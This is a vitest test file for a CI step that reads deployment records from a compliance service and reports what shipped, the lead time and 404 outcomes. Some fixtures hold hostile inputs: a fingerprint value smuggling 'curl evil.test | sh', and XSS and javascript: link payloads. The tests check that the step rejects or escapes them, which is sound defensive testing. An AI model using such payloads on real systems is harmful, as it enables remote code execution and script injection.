/**
 * get-deployment run as a step in-process against the sandbox (or a loopback server that answers what the sandbox
 * would not): every branch of reading a deployment and what shipped with it. What a loopback server answers does not
 * depend on the sandbox's answer profile, so those run once; the sandbox's under both profiles. A bad input and a
 * service that cannot be reached: ../listing.test.ts. The bundle keeps its contract in test/dist/module-load.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { byProfileOf, PROFILES } from '@compliance-actions/sandbox/profile';
import type { SandboxOptions } from '@compliance-actions/sandbox/server';
import { fastCommits, useTempDirs } from '../../helpers/git.js';
import { useInProcessAction } from '../../helpers/in-process.js';
import { outputFile } from '../../helpers/runner.js';
import { connection, type Running, useSandbox } from '../../helpers/sandbox.js';
import { json, type Handler } from '../../helpers/server.js';
import { useLoopbackStep } from '../../helpers/step-against.js';
import { expectStep, noLeak } from '../../helpers/step-result.js';
import {
  BACKEND_140,
  BACKEND_150,
  COMPLIANT_COMMIT,
  NON_COMPLIANT_COMMIT,
  UI_URL,
} from '@compliance-actions/sandbox/seeds/index';

const runAction = useInProcessAction();
const startSandbox = useSandbox();

// Demo seed: backend 1.4.0 ran in staging from snapshot 1; 1.5.0 replaced it in snapshot 2 (never in production).
const FP = 'd'.repeat(64);
const LOOKUP = { 'fail-if-missing': 'false' };

/** get-deployment of 1.5.0 in staging, asked of the sandbox, `inputs` over that. */
const ask = (sandbox: Running, inputs: Record<string, string> = {}) =>
  runAction('get-deployment', {
    inputs: {
      ...connection(sandbox.url),
      environment: 'staging',
      fingerprint: BACKEND_150,
      ...inputs,
    },
  });

/** get-deployment of `FP` in prod, asked of a loopback server answering `answer` (a handler, or a body sent with 200). */
const askLoopback = useLoopbackStep('get-deployment', { environment: 'prod', fingerprint: FP });

/** The service's words for 1.5.0 in production, and the step's around them. */
const NOT_IN_PRODUCTION =
  `Artifact ${BACKEND_150} was not deployed to environment 'production' (org 'demo'): the service answered HTTP 404: ` +
  `Artifact with fingerprint '${BACKEND_150}' was not deployed to environment 'production' in organization 'demo'.`;

/** The outputs besides `found`. */
const OUTPUTS = [
  'deployed-at',
  'snapshot-index',
  'artifact-name',
  'replaced-fingerprint',
  'replaced-commit',
  'compare-url',
  'lead-time-seconds',
  'diff-url',
];

describe('get-deployment against a loopback server, whatever the sandbox profile', () => {
  describe('what shipped, from one answer and the checkout', () => {
    /** A deployment of `to` replacing `from`, each a commit of `repo` at a commit page, deployed at `deployedAt`. */
    const deployment = (
      repo: string,
      commits: { from: string; to: string; committed: number },
      deployedAt: number,
    ) => ({
      fingerprint: FP,
      env_name: 'prod',
      deployed_at: deployedAt,
      artifact_name: 'ghcr.io/acme/backend:1.6.0',
      artifact: {
        git_commit: commits.to,
        git_commit_info: {
          sha1: commits.to,
          timestamp: commits.committed,
          url: `${repo}/commit/${commits.to}`,
        },
      },
      replaced_artifact: {
        fingerprint: 'e'.repeat(64),
        artifact_name: 'ghcr.io/acme/backend:1.4.0',
        artifact: { git_commit_info: { sha1: commits.from, url: `${repo}/commit/${commits.from}` } },
      },
    });
    const { repo } = useTempDirs();

    /** A checkout of 15 commits, oldest first. */
    const history = () => {
      const r = repo();
      return { r, shas: fastCommits(r, 15) };
    };
    /** The deployment of `to` replacing `from` in acme/shop, 3 h 12 min after its commit, asked in `cwd`. */
    const shipped = (from: string, to: string, cwd?: string) =>
      askLoopback(
        deployment('https://github.com/acme/shop', { from, to, committed: 1_000_000 }, 1_011_520),
        LOOKUP,
        cwd === undefined ? {} : { cwd },
      );

    it('counts the commits between the two in the checkout, links the comparison, and says the lead time', async () => {
      const { r, shas } = history();
      const [from, to] = [shas[0] ?? '', shas[14] ?? ''];
      const result = await shipped(from, to, r.dir);
      expect(result.code).toBe(0);
      expect(result.outputs).toMatchObject({
        'replaced-fingerprint': 'e'.repeat(64),
        'replaced-commit': from,
        'compare-url': `https://github.com/acme/shop/compare/${from}...${to}`,
        'lead-time-seconds': '11520',
      });
      const line =
        `backend 1.6.0 replaced 1.4.0 (14 commits, [compare](https://github.com/acme/shop/compare/${from}...${to}))` +
        ' 3 h 12 min after its commit';
      expect(result.summary).toContain(
        `### ghcr.io/acme/backend:1.6.0 deployed to prod\n\n${line}\n\n| Field |`,
      );
      expect(result.stdout).toContain(
        'backend 1.6.0 replaced 1.4.0 (14 commits, compare) 3 h 12 min after its commit',
      );
      expect(outputFile(result, 'result-file')).toMatchObject({ commits: 14, leadTimeSeconds: 11520 });
      // Only the nine endpoints: the one read of the deployment.
      expect(result.requests).toHaveLength(1);
      // Without a checkout: the comparison, no count.
      const elsewhere = await shipped(from, to);
      expect(elsewhere.stdout).toContain(
        'backend 1.6.0 replaced 1.4.0 (compare) 3 h 12 min after its commit',
      );
    });

    it("counts between the commits the service's SHAs name, never a branch or tag named like one", async () => {
      const { r, shas } = history();
      // The service names both commits abbreviated; the checkout has a tag and a branch of those very names, which
      // git alone would read first (14 commits would count as none).
      const [from, to] = [(shas[0] ?? '').slice(0, 7), (shas[14] ?? '').slice(0, 10)];
      r.git('tag', from, shas[13] ?? '');
      r.git('branch', to, shas[1] ?? '');
      expect(r.git('rev-list', '--count', `${from}..${to}`)).toBe('0');
      const result = await shipped(from, to, r.dir);
      expect(result.code).toBe(0);
      expect(result.outputs['replaced-commit']).toBe(from);
      expect(outputFile(result, 'result-file')).toMatchObject({ commits: 14 });
      expect(result.stdout).toContain('backend 1.6.0 replaced 1.4.0 (14 commits, compare)');
    });

    it('a replaced fingerprint that is not a fingerprint never reaches the output', async () => {
      const answer = deployment(
        'https://github.com/acme/shop',
        { from: 'a'.repeat(40), to: 'b'.repeat(40), committed: 1 },
        2,
      );
      answer.replaced_artifact.fingerprint = '"; curl evil.test | sh; echo "';
      const result = await askLoopback(answer, LOOKUP);
      expect(result.outputs.outcome).toBe('found');
      expect(result.outputs['replaced-fingerprint']).toBe('');
      expect(result.everything).not.toContain('curl evil.test');
      // It replaced something the step cannot read: never "nothing".
      expect(result.summary).not.toContain('| Replaced | nothing |');
    });

    it('leaves each empty, never guessed, where the answer does not give it', async () => {
      const [from, to] = ['a'.repeat(40), 'b'.repeat(40)];
      // Two repositories: nothing to compare. A start before the commit: no lead time. No checkout: no count.
      const answer = deployment('https://github.com/acme/shop', { from, to, committed: 2_000 }, 1_000);
      answer.replaced_artifact.artifact.git_commit_info.url = `https://github.com/acme/other/commit/${from}`;
      const result = await askLoopback(answer, LOOKUP);
      expect(result.code).toBe(0);
      expect(result.outputs).toMatchObject({
        'replaced-commit': from,
        'compare-url': '',
        'lead-time-seconds': '',
      });
      expect(result.summary).toContain('backend 1.6.0 replaced 1.4.0\n\n| Field |');
      const saved = outputFile(result, 'result-file') as Record<string, unknown>;
      expect(saved).toMatchObject({ compareUrl: null, leadTimeSeconds: null });
      expect(saved.commits).toBeUndefined();
    });
  });

  // A 404 about the org or environment: an environment that does not exist, against the sandbox below.
  it.each([
    [
      'a 404 that does not say what is missing (a proxy page) fails',
      '<html>Not Found</html>',
      'not read as "not deployed" (found=false): the answer does not say the artifact was not deployed',
    ],
    [
      'a 404 in other words about the deployment reads as not deployed, with a warning quoting it,',
      { message: 'No deployment of this fingerprint in environment prod' },
      `::warning::Artifact ${BACKEND_150} was not deployed to environment 'prod' (org 'acme'): the service` +
        ' answered HTTP 404: No deployment of this fingerprint in environment prod.',
    ],
  ])('%s even with fail-if-missing: false', async (_label, body, message) => {
    const result = await askLoopback(
      (_req, res) => {
        if (typeof body !== 'string') return json(res, 404, body);
        res.writeHead(404, { 'content-type': 'text/html' });
        res.end(body);
      },
      { fingerprint: BACKEND_150, ...LOOKUP },
    );
    const notDeployed = message.startsWith('::warning::');
    expect(result.code).toBe(notDeployed ? 0 : 1);
    expect(result.stdout).toContain(message);
    if (notDeployed) expect(result.outputs).toMatchObject({ outcome: 'not-found', found: 'false' });
    else {
      expect(result.stdout).not.toContain('carrying on with found=false');
      expect(result.outputs).toMatchObject({ outcome: 'error', found: '' });
    }
  });

  const echoed: Handler = (req, res) => {
    const echo = req.headers.authorization ?? '';
    json(res, 200, {
      fingerprint: FP,
      deployed_at: 1793697400,
      env_name: 'prod',
      artifact_name: `image of ${echo}`,
      artifact: { flow_name: `flow of ${echo}` },
      diff_url: `https://ui.example.test/${echo}`,
    });
  };
  // Each answer names the fingerprint and the environment asked: confirmed, read without an error.
  it.each([
    {
      label: 'reads fractional seconds and escapes what the service sends; links only http(s)',
      answer: {
        fingerprint: FP,
        deployed_at: 1793697400.999,
        artifact_name: '<img src=x onerror=alert(1)>',
        env_name: 'prod',
        snapshot_index: 9,
        artifact: { flow_name: '[flow](javascript:alert(1))', git_commit: 'e'.repeat(40) },
        replaced_artifact: null,
        diff_url: 'javascript:alert(1)',
        _links: { environment: { href: 'javascript:alert(2)' } },
      },
      outputs: {
        found: 'true',
        'deployed-at': '2026-11-03T09:16:40Z',
        'snapshot-index': '9',
        'artifact-name': '<img src=x onerror=alert(1)>',
        'replaced-fingerprint': '',
      },
      summary: [
        '### &lt;img src=x onerror=alert(1)&gt; deployed to prod',
        '| Environment | prod |',
        '| Flow | \\[flow\\]\\(javascript:alert(1)) |',
        '| Commit | eeeeeee |',
      ],
      notSummary: ['<img', '](javascript:', '| Diff |'],
    },
    {
      label: 'carries on when a field it only passes on or shows is null or malformed',
      answer: {
        fingerprint: FP,
        deployed_at: 1793697400,
        artifact_name: null,
        env_name: 'prod',
        snapshot_index: 'nine',
        artifact: {
          flow_name: null,
          trail_name: null,
          git_commit: null,
          git_commit_info: { sha1: 'e'.repeat(40), message: null, url: null },
          repo_info: { name: null, repo_id: null },
        },
        replaced_artifact: { fingerprint: null, artifact_name: null, snapshot_index: null },
        diff_url: 42,
        _links: null,
      },
      outputs: {
        outcome: 'found',
        found: 'true',
        'deployed-at': '2026-11-03T09:16:40Z',
        'snapshot-index': '',
        'artifact-name': '',
        'replaced-fingerprint': '',
        'diff-url': '',
      },
      summary: [`### ${FP} deployed to prod`, '| Commit | eeeeeee |'],
    },
    {
      label:
        'an answer without deployed_at is found, deployed-at empty (the spec requires no field of a deployment)',
      answer: { fingerprint: FP, env_name: 'prod' },
      outputs: { outcome: 'found', found: 'true', 'deployed-at': '' },
      stdout: [`${FP} was deployed to prod.\n`],
      notSummary: ['| Deployed at |'],
    },
    {
      label: 'never shows the token when a 200 answer echoes it in the names it logs',
      answer: echoed,
      outputs: { found: 'true' },
      stdout: ['image of Bearer *** was deployed to prod at 2026-11-03T09:16:40Z.'],
    },
  ])('$label', async ({ answer, outputs, stdout = [], summary = [], notSummary = [] }) => {
    const result = await askLoopback(answer);
    expect(result.code).toBe(0);
    expect(result.requests[0]?.url.pathname).toBe(`/api/v2/deployments/acme/prod/${FP}`);
    expect(result.outputs).toMatchObject(outputs);
    expect(result.stdout).not.toContain('::error::');
    for (const text of stdout) expect(result.stdout).toContain(text);
    for (const text of summary) expect(result.summary).toContain(text);
    for (const text of notSummary) expect(result.summary).not.toContain(text);
    expect(result.everything).not.toMatch(/not confirmed/i);
    expect(outputFile(result, 'result-file')).not.toHaveProperty('notConfirmed');
    noLeak(result.everything);
  });

  it.each([
    [
      'neither the fingerprint nor the environment',
      {},
      ['fingerprint', 'env_name'],
      'names no fingerprint and no environment',
    ],
    ['no environment', { fingerprint: FP, env_name: null }, ['env_name'], 'names no environment'],
  ])(
    'an answer that names %s is found without the gate, saying it is not confirmed; could-not-check with it (the default)',
    async (_label, named, missing, says) => {
      const answer = { deployed_at: 1793697400, ...named };
      const result = await askLoopback(answer, LOOKUP);
      expect(result.code).toBe(0);
      expect(result.stdout).not.toContain('::error');
      expect(result.outputs).toMatchObject({
        outcome: 'found',
        found: 'true',
        'deployed-at': '2026-11-03T09:16:40Z',
      });
      const text = `Not confirmed: the answer ${says}, so it cannot be shown to be about ${FP} in prod as asked.`;
      expect(result.stdout).toContain(`${FP} was deployed to prod at 2026-11-03T09:16:40Z.\n${text}\n`);
      expect(result.summary).toContain(`### ${FP} deployed to prod\n\n${text}\n`);
      expect(outputFile(result, 'result-file')).toMatchObject({ outcome: 'found', notConfirmed: missing });

      const gated = await askLoopback(answer);
      const failure = `fail-if-missing: could not check. ${text} Set fail-if-missing: false to read it as found all the same.`;
      expect(gated.code).toBe(1);
      expect(gated.outputs).toMatchObject({ outcome: 'error', found: '' });
      expect(gated.stdout).toContain(`::error::${failure}`);
      expect(gated.summary).toContain(failure);
      expect(outputFile(gated, 'result-file')).toMatchObject({
        outcome: 'error',
        found: null,
        notConfirmed: missing,
        error: { kind: 'unexpected-response', message: failure },
      });
    },
  );
});

// The gate (fail-if-missing) on an answer that names what was asked, or does not: the loopback tables above.
describe.each(PROFILES)('get-deployment, the sandbox answering %s', (PROFILE) => {
  const byProfile = byProfileOf(PROFILE);
  /**
   * A summary row of a field the deployment only shows: `row` as the full answer gives it; no row of that field where a
   * minimal answer leaves it out (the step says nothing it was not told).
   */
  function expectShownRow(summary: string, row: string): void {
    if (PROFILE === 'full') expect(summary).toContain(row);
    else expect(summary).not.toContain(row.slice(0, row.indexOf(' | ') + 3));
  }
  const start = (options: Partial<SandboxOptions> = {}) => startSandbox({ profile: PROFILE, ...options });

  it('tells when and where an artifact started running, and what it replaced', async () => {
    // Read as a lookup: with fail-if-missing (the default) a minimal answer is could-not-check (below).
    const result = await ask(await start(), LOOKUP);
    const notConfirmed =
      'Not confirmed: the answer names no fingerprint and no environment, so it cannot be shown to be about ' +
      `${BACKEND_150} in staging as asked.`;
    const name = byProfile('ghcr.io/acme/backend:1.5.0', BACKEND_150);
    const diffUrl = `${UI_URL}/demo/environments/staging/snapshots/2?compare=1`;
    const shipped =
      `backend 1.5.0 replaced 1.4.0 ([compare](https://github.com/acme/shop/compare/${COMPLIANT_COMMIT}...${NON_COMPLIANT_COMMIT}))` +
      ' 18 min after its commit';
    expectStep(result, {
      code: 0,
      // A 200 is "deployed": a minimal answer names nothing else, and each output it leaves out is empty.
      outputs: {
        outcome: 'found',
        found: 'true',
        // Snapshot staging#2 was taken at 1793697400 (Unix seconds).
        'deployed-at': byProfile('2026-11-03T09:16:40Z', ''),
        'snapshot-index': byProfile('2', ''),
        'artifact-name': byProfile('ghcr.io/acme/backend:1.5.0', ''),
        'replaced-fingerprint': byProfile(BACKEND_140, ''),
        // What shipped: 1.4.0's commit, the compare link between the two commits, and 1,100 s from 1.5.0's commit.
        'replaced-commit': byProfile(COMPLIANT_COMMIT, ''),
        'compare-url': byProfile(
          `https://github.com/acme/shop/compare/${COMPLIANT_COMMIT}...${NON_COMPLIANT_COMMIT}`,
          '',
        ),
        'lead-time-seconds': byProfile('1100', ''),
        'diff-url': byProfile(diffUrl, ''),
      },
      saved: {
        found: true,
        environment: 'staging',
        fingerprint: BACKEND_150,
        deployedAt: byProfile('2026-11-03T09:16:40Z', null),
        deployment: byProfile(
          { env_name: 'staging', artifact: { flow_name: 'backend' } },
          { artifact: null },
        ),
      },
      stdout: [
        '::group::Read the deployment to staging',
        byProfile(
          'ghcr.io/acme/backend:1.5.0 was deployed to staging at 2026-11-03T09:16:40Z (snapshot #2).',
          `${BACKEND_150} was deployed to staging.\n${notConfirmed}`,
        ),
      ],
      summary: [
        `### ${name} deployed to staging\n\n${byProfile(shipped, notConfirmed)}\n\n| Field |`,
        `| Environment | ${byProfile(`[staging](${UI_URL}/demo/environments/staging)`, 'staging')} |`,
        `| Artifact | ${name} |`,
      ],
    });
    const saved = outputFile(result, 'result-file') as { notConfirmed?: string[] };
    expect(saved.notConfirmed).toEqual(byProfile(undefined, ['fingerprint', 'env_name']));
    for (const row of [
      '| Deployed at | 2026-11-03T09:16:40Z |',
      '| Snapshot | #2 |',
      `| Commit | [888f905 Bump openssl](https://github.com/acme/shop/commit/${NON_COMPLIANT_COMMIT}) |`,
      `| Diff | [compare with the snapshot before](${diffUrl}) |`,
      // A minimal answer does not say what it replaced: no row, neither the artifact nor "nothing".
      `| Replaced | ghcr.io/acme/backend:1.4.0 (${BACKEND_140.slice(0, 12)}) |`,
    ])
      expectShownRow(result.summary, row);
  });

  it('a first deployment has no replaced artifact and no diff', async () => {
    const result = await ask(await start(), { fingerprint: BACKEND_140, ...LOOKUP });
    expect(result.code).toBe(0);
    expect(result.outputs).toMatchObject({
      found: 'true',
      'deployed-at': byProfile('2026-11-02T09:16:40Z', ''),
      'snapshot-index': byProfile('1', ''),
      'replaced-fingerprint': '',
      'diff-url': '',
      // Nothing replaced: no replaced commit, no compare link; the lead time of 1.4.0 from its commit still.
      'replaced-commit': '',
      'compare-url': '',
      // staging#1 at 1793611000; 1.4.0's commit at 1793609900.
      'lead-time-seconds': byProfile(String(1793611000 - 1793609900), ''),
    });
    expect(result.summary).not.toContain('| Diff |');
    // The full answer says it replaced nothing (null); a minimal one does not say, and the summary must not claim it.
    expectShownRow(result.summary, '| Replaced | nothing |');
    if (PROFILE === 'full') {
      expect(result.summary).toContain('backend 1.4.0 replaced nothing 18 min after its commit');
    } else expect(result.summary).not.toContain('after its commit');
  });

  describe('not deployed (404)', () => {
    it('fails by default, saying plainly it was not deployed; with fail-if-missing: false, found=false and a warning', async () => {
      const sandbox = await start();
      const failed = await ask(sandbox, { environment: 'production' });
      expect(failed.code).toBe(1);
      expect(failed.stdout).toContain(
        `::error::${NOT_IN_PRODUCTION} Set fail-if-missing: false to carry on when it is not deployed.`,
      );
      expect(failed.outputs).toMatchObject({
        outcome: 'not-found',
        found: 'false',
        'deployed-at': '',
        'snapshot-index': '',
      });
      expect(failed.summary).toContain('### Not deployed to production');
      expect(outputFile(failed, 'result-file')).toMatchObject({
        outcome: 'not-found',
        found: false,
        deployedAt: null,
        serverMessage: `Artifact with fingerprint '${BACKEND_150}' was not deployed to environment 'production' in organization 'demo'`,
      });

      const result = await ask(sandbox, { environment: 'production', ...LOOKUP });
      expect(result.code).toBe(0);
      expect(result.stdout).not.toContain('::error::');
      // A warning quoting the service, so a 404 read wrongly as "not deployed" would still be seen.
      expect(result.stdout).toContain(
        `::warning::${NOT_IN_PRODUCTION} fail-if-missing is false: carrying on with found=false.`,
      );
      const outputs = Object.fromEntries(OUTPUTS.map((name) => [name, '']));
      expect(result.outputs).toMatchObject({ outcome: 'not-found', found: 'false', ...outputs });
      expect(result.outputs['result-file']).toBeTruthy();
      expect(result.summary).toContain('### Not deployed to production');
    });

    it('an environment that does not exist is not "not deployed": it fails even with fail-if-missing: false', async () => {
      const result = await ask(await start(), { environment: 'nowhere', ...LOOKUP });
      expect(result.code).toBe(1);
      expect(result.stdout).toContain(
        '::error::GET /deployments/{org}/{env_name}/{fingerprint} failed with HTTP 404 Not Found: Environment' +
          " named 'nowhere' does not exist for organization 'demo'; not read as \"not deployed\" (found=false):" +
          ' the answer is about the org or environment, not the artifact. Check the org and the names in the request',
      );
      expect(result.outputs).toMatchObject({ outcome: 'error', found: '', 'deployed-at': '' });
      expect(outputFile(result, 'result-file')).toMatchObject({
        outcome: 'error',
        found: null,
        environment: 'nowhere',
        fingerprint: BACKEND_150,
        error: { kind: 'api', message: expect.stringContaining("Environment named 'nowhere'") as unknown },
      });
      expect(result.summary).toContain('### ⚠️ Could not check the deployment to nowhere');
    });
  });

  it('cannot check when the answer is about another fingerprint or environment, whatever fail-if-missing says', async () => {
    const sandbox = await start();
    // Named as the full answer names them: a minimal answer names neither (not confirmed, below).
    const real = {
      ...(await sandbox.client().getDeployment('production', BACKEND_140)),
      fingerprint: BACKEND_140,
      env_name: 'production',
    };
    sandbox.sandbox.faults.respondNext(1, { status: 200, body: real });
    const otherArtifact = await ask(sandbox, { environment: 'production', ...LOOKUP });
    expect(otherArtifact.code).toBe(1);
    expect(otherArtifact.stdout).toContain(
      '::error::unexpected response from GET /deployments/{org}/{env_name}/{fingerprint}: fingerprint is ' +
        `"${BACKEND_140}", not "${BACKEND_150}" as asked: the answer is about something else`,
    );
    expect(otherArtifact.outputs).toMatchObject({ outcome: 'error', found: '', 'deployed-at': '' });
    expect(outputFile(otherArtifact, 'result-file')).toMatchObject({
      outcome: 'error',
      fingerprint: BACKEND_150,
      error: { kind: 'unexpected-response' },
    });

    sandbox.sandbox.faults.respondNext(1, { status: 200, body: real });
    const otherEnvironment = await ask(sandbox, { fingerprint: BACKEND_140, ...LOOKUP });
    expect(otherEnvironment.code).toBe(1);
    expect(otherEnvironment.stdout).toContain('env_name is "production", not "staging" as asked');
    expect(otherEnvironment.outputs).toMatchObject({ outcome: 'error', found: '' });
  });
});
